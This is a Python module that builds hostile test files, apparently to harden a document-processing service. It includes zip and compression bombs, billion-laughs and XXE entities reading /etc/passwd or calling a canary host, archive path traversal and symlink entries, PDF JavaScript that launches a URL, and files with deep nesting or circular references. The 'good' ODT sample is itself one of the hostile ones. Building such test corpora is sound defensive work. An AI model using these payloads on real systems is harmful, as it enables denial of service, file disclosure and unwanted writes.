"""Small hostile documents, each made here by a few lines: bombs, loops, lies. A case is a function of its own.

`CANARY` in a case is the address of a server that must never be asked.
"""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

CANARY = "http://canary.invalid"


class Case(NamedTuple):
    """A hostile file: how to make it, and what it calls itself."""

    make: Callable[[], bytes]
    filename: str


CASES: dict[str, Case] = {}


def case(filename: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Register a function that makes a hostile file."""

    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES[make.__name__] = Case(make, filename)
        return make

    return register


def pdf_of(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a PDF of numbered objects (from 1, the first one its root), with a table that is right."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(
        b"%010d 00000 n \n" % at for at in places
    )
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, len(body))
    return body + table + end


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), more, content)


def one_page(page: bytes, *objects: bytes, catalogue: bytes = b"") -> bytes:
    """Return a PDF with one page; further objects are numbered from 4."""
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]%s>>" % page,
        *objects,
    )


HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


@case("a.pdf")
def pdf_page_tree_in_a_circle() -> bytes:
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>")


@case("a.pdf")
def pdf_outline_in_a_circle() -> bytes:
    return one_page(
        b"",
        b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
        b"<</Title(one)/Parent 4 0 R/Next 6 0 R/First 6 0 R>>",
        b"<</Title(two)/Parent 4 0 R/Next 5 0 R/First 5 0 R>>",
        catalogue=b"/Outlines 4 0 R",
    )


@case("a.pdf")
def pdf_xref_in_a_circle() -> bytes:
    whole = one_page(b"")
    at = whole.index(b"xref\n")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


@case("a.pdf")
def pdf_of_100_000_pages() -> bytes:
    """Five levels of ten kids, the last one the same page each time."""
    levels = [
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (b" ".join([b"%d 0 R" % (number + 1)] * 10), 10 ** (7 - number))
        for number in range(2, 7)
    ]
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        *levels,
        b"<</Type/Page/MediaBox[0 0 200 200]/Resources<</Font<</F 8 0 R>>>>/Contents 9 0 R>>",
        HELVETICA,
        stream(b"BT /F 12 Tf 10 10 Td (again) Tj ET"),
    )


@case("a.pdf")
def pdf_that_claims_a_billion_pages() -> bytes:
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 1000000000>>")


@case("a.pdf")
def pdf_stream_whose_length_is_itself() -> bytes:
    return one_page(b"/Contents 4 0 R", b"<</Length 4 0 R>>stream\nBT ET\nendstream")


@case("a.pdf")
def pdf_stream_that_unpacks_to_gigabytes() -> bytes:
    packed = bytes(1 << 20)
    for _ in range(3):
        packed = zlib.compress(packed * 64, 9)
    return one_page(b"/Contents 4 0 R", stream(packed, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


@case("a.pdf")
def pdf_forms_that_draw_each_other_ten_times() -> bytes:
    forms = [
        stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (n + 1))
        for n in range(5, 17)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return one_page(b"/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>", stream(b"/X Do"), *forms, last)


@case("a.pdf")
def pdf_font_whose_letter_writes_itself() -> bytes:
    return one_page(
        b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>",
        stream(b"BT /F 12 Tf (aaaaaaaaaa) Tj ET"),
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
        b"/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>",
        stream(b"9 0 d0 BT /F 12 Tf (aaaaaaaaaa) Tj ET"),
    )


@case("a.pdf")
def pdf_page_of_a_thousand_kilometres() -> bytes:
    return one_page(b"/MediaBox[0 0 3e9 3e9]/UserUnit 1e6")


@case("a.pdf")
def pdf_page_of_no_size() -> bytes:
    return one_page(b"/MediaBox[0 0 0 0]")


@case("a.pdf")
def pdf_page_of_a_million_lines() -> bytes:
    lines = b"BT /F 1 Tf " + b"(word) Tj 0 -1 Td " * 300_000 + b"ET"
    return one_page(
        b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>",
        stream(zlib.compress(lines), b"/Filter/FlateDecode"),
        HELVETICA,
    )


@case("a.pdf")
def pdf_that_wants_to_go_out() -> bytes:
    address = CANARY.encode()
    return one_page(
        b"/AA<</O<</S/URI/URI(%s)>>>>" % address,
        catalogue=b"/OpenAction<</S/JavaScript/JS(app.launchURL('%s'))>>" % address,
    )


@case("a.pdf")
def pdf_form_in_a_circle() -> bytes:
    return one_page(
        b"/Annots[5 0 R]",
        b"<</Fields[5 0 R]>>",
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/Rect[0 0 9 9]/Parent 5 0 R/Kids[5 0 R]>>",
        catalogue=b"/AcroForm 4 0 R",
    )


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def zipped(members: dict[str, bytes | str]) -> bytes:
    """Return a ZIP of these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_of(document: str, **more: bytes | str) -> bytes:
    """Return a docx whose main part is this XML."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    return zipped({"[Content_Types].xml": types, "word/document.xml": document} | more)


def body(text: str) -> str:
    """Return the main part of a docx with one paragraph."""
    return f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'


def laughs(levels: int = 10) -> str:
    """Return the document type declaration of a billion laughs."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "ha">{entities}]>'


@case("a.docx")
def docx_of_a_billion_laughs() -> bytes:
    return docx_of(laughs() + body("&l9; words"))


@case("a.docx")
def docx_with_external_entities() -> bytes:
    doctype = f'<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "{CANARY}/b">]>'
    return docx_of(f'<?xml version="1.0"?>{doctype}{body("&a;&b; words")}')


@case("a.docx")
def docx_linked_to_the_outside() -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        f'TargetMode="External" Target="{CANARY}/template.dotm"/></Relationships>'
    )
    return docx_of(body("words"), **{"word/_rels/document.xml.rels": relations})


@case("a.docx")
def docx_nested_100_000_deep() -> bytes:
    depth = 100_000
    return docx_of(body("<w:x>" * depth + "deep" + "</w:x>" * depth))


@case("a.docx")
def docx_tables_nested_3_000_deep() -> bytes:
    opened, closed = "<w:tbl><w:tr><w:tc><w:p/>", "<w:p/></w:tc></w:tr></w:tbl>"
    inside = opened * 3000 + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + closed * 3000
    return docx_of(f'<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>')


@case("a.docx")
def docx_with_names_that_leave_it() -> bytes:
    return docx_of(body("words"), **{"../../../../tmp/filemill-slipped": b"x", "/etc/filemill-slipped": b"x"})


@case("a.docx")
def docx_with_empty_parts() -> bytes:
    return docx_of("", **{"word/styles.xml": b"", "docProps/core.xml": b"", "word/numbering.xml": b""})


@case("a.docx")
def docx_that_unpacks_to_gigabytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(256):
                part.write(b" " * (1 << 20))
    return buffer.getvalue()


@case("a.docx")
def docx_that_lies_about_its_size() -> bytes:
    """The directory says 100 bytes; what is packed unpacks to 256 MiB."""
    whole = docx_that_unpacks_to_gigabytes()
    return whole.replace(struct.pack("<I", 256 << 20), struct.pack("<I", 100))


@case("a.xlsx")
def xlsx_with_one_cell_in_each_corner() -> bytes:
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        '<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
        "</sheetData></worksheet>"
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"/>',
            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{office}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/worksheet" Target="worksheets/s1.xml"/></Relationships>',
            "xl/worksheets/s1.xml": sheet,
        }
    )


@case("a.odt")
def odt_with_a_billion_spaces() -> bytes:
    """One element may stand for any number of spaces, or of table cells."""
    text = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:text>'
        '<text:p>words<text:s text:c="2000000000"/></text:p><table:table><table:table-row '
        'table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
        "</office:text></office:body></office:document-content>"
    )
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": text})


@case("a.ods")
def ods_with_a_billion_cells() -> bytes:
    text = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="S"><table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="10000"><text:p>x</text:p></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": text})


@case("a.epub")
def epub_that_names_itself() -> bytes:
    spine = '<itemref idref="a"/><itemref idref="c"/>' * 1000
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>',
            "a.opf": '<package><manifest><item id="a" href="a.opf"/><item id="b" href="../../../etc/passwd"/>'
            f'<item id="c" href="{CANARY}/c"/></manifest><spine>{spine}'
            "</spine></package>",
        }
    )


@case("a.rtf")
def rtf_nested_a_million_deep() -> bytes:
    return b"{\\rtf1 " + b"{" * 1_000_000 + b"deep" + b"}" * 1_000_001


@case("a.html")
def html_nested_200_000_deep() -> bytes:
    return b"<!doctype html><html><body>" + b"<div><b><table>" * 70_000 + b"deep"


@case("a.html")
def html_linked_to_the_outside() -> bytes:
    address = CANARY.encode()
    return (
        b"<!doctype html><html><head><link rel=stylesheet href=%s/a><meta http-equiv=refresh content='0;url=%s/b'>"
        b"<base href=%s/></head><body><img src=%s/c><iframe src=%s/d></iframe>words</body></html>"
    ) % ((address,) * 5)


@case("a.html")
def html_with_a_million_attributes() -> bytes:
    return b"<!doctype html><html><body><p " + b"a=b " * 1_000_000 + b">words" + b"<" * 500_000


@case("a.xml")
def xml_of_a_billion_laughs() -> bytes:
    return (laughs() + "<r>&l9; words</r>").encode()


@case("a.xml")
def xml_of_quadratic_size() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "%s">]><r a="%s">words</r>' % (b"x" * 60_000, b"&a;" * 60_000)


@case("a.xml")
def xml_with_external_parts() -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{CANARY}/a.dtd" [<!ENTITY % p SYSTEM "{CANARY}/p"> %p;'
        f'<!ENTITY x SYSTEM "{CANARY}/x">]><r>&x;words</r>'
    ).encode()


@case("a.svg")
def svg_linked_to_the_outside() -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="{CANARY}/a"/>'
        f'<use xlink:href="{CANARY}/b#x"/><style>@import url({CANARY}/c);</style><text>words</text></svg>'
    ).encode()


def _drawing(inside: str, head: str = "") -> bytes:
    root = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">'
    return f"{head}{root}{inside}</svg>".encode()


@case("a.svg")
def svg_whose_parts_use_each_other() -> bytes:
    levels = "".join(f'<g id="u{n}">' + f'<use xlink:href="#u{n - 1}"/>' * 10 + "</g>" for n in range(1, 30))
    return _drawing(f'<defs><g id="u0"><rect width="9" height="9"/></g>{levels}</defs><use xlink:href="#u29"/>')


@case("a.svg")
def svg_that_uses_itself() -> bytes:
    return _drawing('<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g>')


@case("a.svg")
def svg_of_huge_filters() -> bytes:
    blur = '<filter id="f" width="99999" height="99999"><feGaussianBlur stdDeviation="9999"/></filter>'
    return _drawing(blur + '<rect width="90" height="90" filter="url(#f)"/>' * 300)


@case("a.svg")
def svg_of_a_million_parts() -> bytes:
    return _drawing('<circle cx="5" cy="5" r="3" opacity=".5"/>' * 250_000)


@case("a.svg")
def svg_nested_deep() -> bytes:
    return _drawing("<g opacity='.9'>" * 50_000 + "<rect width='9' height='9'/>" + "</g>" * 50_000)


@case("a.svg")
def svg_of_patterns_in_patterns() -> bytes:
    patterns = "".join(
        f'<pattern id="p{n}" width=".01" height=".01"><rect width="90" height="90" fill="url(#p{n - 1})"/></pattern>'
        for n in range(1, 20)
    )
    return _drawing(f'{patterns}<rect width="90" height="90" fill="url(#p19)"/>')


@case("a.eml")
def mail_in_mail_in_mail() -> bytes:
    head = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: again\r\nMIME-Version: 1.0\r\n"
    return (head + b"Content-Type: message/rfc822\r\n\r\n") * 2000 + head + b"\r\nthe last one\r\n"


@case("a.eml")
def mail_of_parts_in_parts() -> bytes:
    head = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: parts\r\nMIME-Version: 1.0\r\n"
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(3000))
    return head + parts + b"Content-Type: text/plain\r\n\r\nwords\r\n"


@case("a.eml")
def mail_with_a_header_of_megabytes() -> bytes:
    words = b" =?utf-8?q?=C3=A9?=" * 200_000
    return b"From: a@example.com\nTo: b@example.com\nSubject:" + words + b"\nDate: now\n\nwords\n"


def ole(*, next_sector: int) -> bytes:
    """Return an OLE file with an old Word stream; each sector's chain goes on at `next_sector`."""
    entry = "WordDocument".encode("utf-16-le").ljust(64, b"\0") + struct.pack(
        "<HBBIII", 26, 2, 1, -1 % 2**32, -1 % 2**32, -1 % 2**32
    )
    entry = entry.ljust(116, b"\0") + struct.pack("<IQ", 1, 1 << 30)
    root = "Root Entry".encode("utf-16-le").ljust(64, b"\0") + struct.pack(
        "<HBBIII", 22, 5, 1, -1 % 2**32, -1 % 2**32, 1
    )
    root = root.ljust(116, b"\0") + struct.pack("<IQ", 1, 1 << 30)
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, next_sector, 1, next_sector, 1)
    head += struct.pack("<I", 0) + b"\xff" * 432
    table = struct.pack("<I", next_sector) * 128
    return head + table + (root + entry).ljust(512, b"\0") + bytes(4096)


@case("a.doc")
def doc_whose_sectors_go_in_a_circle() -> bytes:
    return ole(next_sector=1)


@case("a.msg")
def msg_whose_sectors_lead_out() -> bytes:
    return ole(next_sector=0x7FFFFFF0).replace(
        "WordDocument".encode("utf-16-le"), "__properties_version1.0".encode("utf-16-le")[:24]
    )


@case("a.json")
def json_nested_a_million_deep() -> bytes:
    return b"[" * 1_000_000 + b"1" + b"]" * 1_000_000


@case("a.csv")
def csv_with_quotes_that_never_close() -> bytes:
    return b"a,b,c\n" + b'1,"' * 500_000


@case("a.csv")
def csv_with_a_million_columns() -> bytes:
    return b",".join(b"c%d" % n for n in range(1_000_000)) + b"\n1,2\n1,2\n"


@case("a.txt")
def text_of_blanks() -> bytes:
    return b"a" + b" " * 20_000_000 + b"b"


@case("a.txt")
def text_of_line_ends() -> bytes:
    return b"a" + b"\n " * 2_000_000 + b"b"


def directory_of(names: list[bytes], *, claimed_bytes: int = 1) -> bytes:
    """Return a ZIP of one member that its directory lists under many names."""
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 33, 0, 1, 1, 1, 0) + b"xx"
    sizes = struct.pack("<II", claimed_bytes, claimed_bytes)
    entries = b"".join(
        b"PK\1\2\x14\0\x14\0" + bytes(12) + sizes + struct.pack("<H16x", len(name)) + name for name in names
    )
    count = len(names)
    at = len(local)
    end64 = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(entries), at)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, at + len(entries), 1)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + entries + end64 + locator + end


@case("a.zip")
def zip_of_a_million_entries() -> bytes:
    return directory_of([b"f%d" % number for number in range(1_000_000)])


@case("a.docx")
def docx_of_a_million_entries() -> bytes:
    return directory_of([b"word/document.xml", *(b"f%d" % number for number in range(1_000_000))])


@case("a.zip")
def zip_of_overlapping_terabytes() -> bytes:
    return directory_of([b"f%d" % number for number in range(1000)], claimed_bytes=0xFFFFFFFE)


@case("a.zip")
def zip_in_zip_in_zip() -> bytes:
    content = b"the core"
    for _ in range(50):
        content = zipped({"next.zip": content})
    return content


@case("a.zip")
def zip_with_a_link_and_names_that_leave_it() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("../../../../tmp/filemill-slipped", "x")
        archive.writestr("C:\\windows\\filemill-slipped", "x")
    return buffer.getvalue()


@case("a.zip")
def zip_of_nothing() -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 0, 0, 0, 0, 0)


@case("a.zip")
def zip_whose_directory_is_noise() -> bytes:
    whole = zipped({f"f{number}": b"x" * 100 for number in range(50)})
    at = whole.index(b"PK\1\2")
    return whole[:at] + bytes((byte * 7 + 3) % 256 for byte in whole[at:-22]) + whole[-22:]


@case("a.tar")
def tar_of_300_000_entries() -> bytes:
    return tarfile.TarInfo("again").tobuf() * 300_000 + bytes(1024)


@case("a.tar")
def tar_with_links_and_devices() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for kind, name in ((tarfile.SYMTYPE, "link"), (tarfile.LNKTYPE, "hard"), (tarfile.CHRTYPE, "../../dev")):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, "/etc/passwd"
            archive.addfile(member)
    return buffer.getvalue()


@case("a.tar.gz")
def tar_gz_of_4_gigabytes() -> bytes:
    member = tarfile.TarInfo("zeros")
    member.size = 4 << 30
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=9) as file:
        file.write(member.tobuf())
        for _ in range(64):
            file.write(bytes(1 << 20))
    return packed.getvalue()


@case("a.tar.xz")
def tar_xz_with_a_name_of_gigabytes() -> bytes:
    """The header of a long name says how long the name is; it is read whole into memory."""
    member = tarfile.TarInfo("././@LongLink")
    member.type, member.size = tarfile.GNUTYPE_LONGNAME, 3 << 30
    packer = lzma.LZMACompressor()
    parts = [packer.compress(member.tobuf())]
    parts += [packer.compress(b"n" * (1 << 20)) for _ in range(300)]
    return b"".join([*parts, packer.flush()])


@case("a.gz")
def gz_of_gz_of_gz() -> bytes:
    content = bytes(64 << 20)
    for _ in range(3):
        content = gzip.compress(content, 9)
    return content


@case("a.xz")
def xz_of_zeros() -> bytes:
    return lzma.compress(bytes(256 << 20), preset=1)


@case("a.bz2")
def bz2_of_zeros() -> bytes:
    return bz2.compress(bytes(64 << 20))


@case("a.pdf")
def a_program_called_pdf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200)


@case("a.docx")
def a_pdf_called_docx() -> bytes:
    return one_page(b"")


@case("a.pdf")
def a_pdf_with_a_zip_behind_it() -> bytes:
    return one_page(b"") + zipped({"a.txt": b"words"})


@case("a.pdf")
def a_file_of_nothing() -> bytes:
    return b""


def good_documents() -> dict[str, bytes]:
    """Return a good document of each kind, by name, to be spoiled."""
    words = b"Some words of a document. " * 40
    page = stream(b"BT /F 12 Tf 10 100 Td (Some words) Tj ET")
    mail = b"From: a@example.com\nTo: b@example.com\nSubject: words\nMIME-Version: 1.0\n"
    parts = b"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n%s\n--b\n" % words
    attached = (
        b"Content-Type: text/csv; name=a.csv\nContent-Disposition: attachment; filename=a.csv\n\na,b\n1,2\n--b--\n"
    )
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as archive:
        for number in range(20):
            archive.addfile(tarfile.TarInfo(f"folder/f{number}"))
    return {
        "a.pdf": one_page(b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>", page, HELVETICA),
        "a.docx": docx_of(body("Some words " * 100)),
        "a.odt": odt_with_a_billion_spaces(),
        "a.rtf": b"{\\rtf1\\ansi " + words + b"\\par}",
        "a.html": b"<!doctype html><html><body><h1>Words</h1><p>" + words + b"</p></body></html>",
        "a.xml": b'<?xml version="1.0"?><r><a b="c">' + words + b"</a></r>",
        "a.eml": mail + parts + attached,
        "a.csv": b"name,age\n" + b"Ann,3\n" * 50,
        "a.zip": zipped({f"f{number}.txt": words for number in range(10)}),
        "a.tar.gz": tar.getvalue(),
        "a.doc": ole(next_sector=0xFFFFFFFE),
    }
